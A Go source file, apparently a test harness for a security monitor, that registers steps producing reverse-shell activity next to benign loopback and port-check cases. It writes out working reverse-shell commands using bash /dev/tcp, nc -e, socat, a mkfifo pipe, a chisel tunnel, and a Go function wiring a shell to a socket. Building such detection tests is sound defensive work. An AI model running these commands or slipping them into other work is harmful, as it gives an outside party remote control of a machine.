// SPDX-License-Identifier: Apache-2.0

package main

import (
	"net"
	"os/exec"
)

func init() {
	provide(map[string]step{
		"reverse-shell": {run: reverseShell, isolated: true},
		"socket-shell":  {run: socketShell("sh", "-c", "exit 0"), isolated: true},
		"socket-renamed-shell": {run: inTemporary(func(dir string) error {
			return all(copySelf(dir+"/x"), socketShell(dir+"/x", "nothing"))()
		}), isolated: true},
		"bash-reverse-shell":  {run: named("bash", "-c", "bash -i >& /dev/tcp/"+peer+"/4444 0>&1")},
		"nc-reverse-shell":    {run: named("nc", "-e", "/bin/sh", peer, "4444")},
		"socat-reverse-shell": {run: named("socat", "TCP:"+peer+":4444", "EXEC:'bash -li',pty,stderr")},
		"fifo-reverse-shell":  {run: named("sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc "+peer+" 4444 > /tmp/f")},
		"port-check-for-real": {run: portCheck, isolated: true},
		"loopback-dialogue":   {run: loopbackDialogue},
		"port-check":          {run: named("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80; echo hello >&3")},
		"grep-reverse-shell":  {run: named("grep", "-r", "bash -i >& /dev/tcp/", "/var/log")},
		"tunnel-tool":         {run: named("chisel", "client", peer+":443", "R:socks")},
		"loopback":            {run: loopback},
		"ssh-odd-port":        {run: as("ssh", "dial"), isolated: true},
		"dial":                {run: dial},
	})
}

func reverseShell() error {
	l, err := listen()
	if err != nil {
		return err
	}
	defer l.Close()
	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444; exec 0<&3 1>&3").Run()
}

// portCheck asks whether somebody listens, as scripts do that wait for a service.
func portCheck() error {
	l, err := listen()
	if err != nil {
		return err
	}
	defer l.Close()
	return exec.Command("bash", "-c", "(echo > /dev/tcp/"+peer+"/4444) && : < /dev/tcp/"+peer+"/4444").Run()
}

// loopbackDialogue speaks to a service of the same host, as health checks do.
func loopbackDialogue() error {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer l.Close()
	_, port, err := net.SplitHostPort(l.Addr().String())
	if err != nil {
		return err
	}
	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+port+"; echo hello >&3 2>&3").Run()
}

// socketShell starts a shell with a connection in the place of its terminal.
func socketShell(name string, args ...string) func() error {
	return func() error {
		l, err := listen()
		if err != nil {
			return err
		}
		defer l.Close()
		c, err := net.Dial("tcp4", peer+":4444")
		if err != nil {
			return err
		}
		defer c.Close()
		f, err := c.(*net.TCPConn).File()
		if err != nil {
			return err
		}
		defer f.Close()
		cmd := exec.Command(name, args...)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
		return cmd.Run()
	}
}

func dial() error {
	c, err := net.Dial("tcp4", peer+":4444")
	if err != nil {
		return err
	}
	return c.Close()
}

// loopback connects to loopback, which is no other machine.
func loopback() error {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer l.Close()
	_, port, err := net.SplitHostPort(l.Addr().String())
	if err != nil {
		return err
	}
	return exec.Command("sh", "-c", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/"+port+"'").Run()
}
